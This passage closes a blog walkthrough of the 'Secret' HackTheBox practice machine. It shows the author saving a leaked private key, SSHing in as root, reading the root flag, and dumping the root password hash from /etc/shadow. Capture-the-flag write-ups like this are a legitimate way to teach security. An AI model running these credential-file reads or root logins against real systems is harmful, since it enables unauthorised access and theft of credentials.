Private key of Root user in Secret HTBGetting Root Shell

To get root shell first of all save the above highlighted text in a file id_rsa then make it executable and using SSH, login to root user account.

$ nano id_rsa
$ chmod 400 id_rsa
$ ssh -i id_rsa [email protected]
# whoami && id
SSH into secret HTB into root account

We have successfully SSH into rootaccount. Let us capture root flag.

Capture Root Flag

# cat root.txt
Getting root shell during Secret HackTheBox Walkthrough

This was how I rooted Secret HackTheBox machine. Learnt a lot after solving this box. Hope you will have also learnt some newthings. Thanks for reading this walkthrough. For any query and suggestion about the walkthrough feel free to write us at [email protected].

Dumping Root Hash

# cat /etc/shadow | grep root

Leave a Reply

This site uses Akismet to reduce spam. Learn how your comment data is processed.

Deepak Kumar Maurya

Hi everyone, I am Deepak Kumar Maurya, creator of I am InfoSec Consultant in day and Bug Bounty Hunter & CTF player at night. Sometimes write walkthrough and other cyber security articleshere. You can connect me at